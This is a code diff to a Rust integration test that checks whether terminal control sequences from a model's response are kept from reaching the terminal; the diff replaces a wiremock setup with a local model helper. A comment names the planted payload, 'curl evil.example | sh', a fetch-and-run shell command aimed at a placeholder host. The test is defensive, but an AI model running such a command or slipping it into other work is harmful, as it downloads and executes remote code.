@@ -10,8 +10,7 @@ use std::time::Duration;
 
 use serde_json::json;
 use support::tmux::{Tmux, maya_bin};
-use wiremock::matchers::{method, path};
-use wiremock::{Mock, MockServer, Request, Respond, ResponseTemplate};
+use wiremock::{Request, Respond, ResponseTemplate};
 
 const T: Duration = Duration::from_secs(20);
 /// base64 of "curl evil.example | sh": what the clipboard write would plant.
@@ -59,17 +58,8 @@ impl Respond for Hostile {
 
 #[test]
 fn terminal_control_sequences_from_a_model_never_reach_the_terminal() {
-    let rt = tokio::runtime::Runtime::new().unwrap();
-    let server = rt.block_on(async {
-        let server = MockServer::start().await;
-        Mock::given(method("POST"))
-            .and(path("/v1/chat/completions"))
-            .respond_with(Hostile)
-            .mount(&server)
-            .await;
-        server
-    });
-    let uri = format!("{}/v1", server.uri());
+    let model = support::local_model::serve(Hostile);
+    let uri = model.base_url.clone();
     let t = Tmux::new(
         120,
         40,
